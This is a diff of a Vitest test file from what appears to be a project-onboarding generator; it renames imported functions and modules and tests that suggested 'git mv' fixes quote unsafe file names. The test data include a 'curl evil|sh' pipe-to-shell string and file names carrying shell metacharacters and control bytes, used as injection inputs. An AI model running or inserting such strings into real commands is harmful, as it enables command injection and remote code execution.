@@ -1,7 +1,7 @@
 import { spawnSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
-import { leftToDo } from '../../generators/core/answers/left.js';
-import { concluded } from '../../generators/core/answers/onboarded.js';
+import { nextSteps } from '../../generators/core/commands/onboard/next-steps.js';
+import { concluded } from '../../generators/core/project/conclusions.js';
 import { detect } from '../../generators/core/project/detect.js';
 import { findingsOf } from '../../generators/core/project/findings.js';
 import { openTree } from '../../generators/core/project/tree.js';
@@ -47,15 +47,15 @@ describe('the fix of a finding', () => {
     expect(found).toMatchObject([{ headline: 'It is a\0curl evil|sh', fix: 'mend it' }]);
   });
 
-  it('names a misspelt file as one word of a shell', () => {
+  it('names a misspelled file as one word of a shell', () => {
     const [template] = catalog.templates.filter(({ detect: { names: all } }) => all.includes('requirements.txt'));
     if (!template) throw new Error('no template reads requirements.txt');
-    const misspelt = ['requirement;.txt', "requirement'.txt", 'requirement\x1b.txt'];
-    for (const name of misspelt) {
+    const misspelled = ['requirement;.txt', "requirement'.txt", 'requirement\x1b.txt'];
+    for (const name of misspelled) {
       const root = temporaryFolder({ [name]: 'x', Procfile: 'web: x\n' });
       const detected = detect({ templates: catalog.templates, common: catalog.detection }, root, template.id);
       const conclusion = concluded(template, detected, {}, { options: {} });
-      const fixes = leftToDo(catalog, template, detected, conclusion, []).map(({ fix }) => fix);
+      const fixes = nextSteps(catalog, template, detected, conclusion, []).map(({ fix }) => fix);
       const [command = ''] = fixes
         .filter((fix) => fix.startsWith('git mv '))
         .map((fix) => fix.replace(/, then .*/, ''));
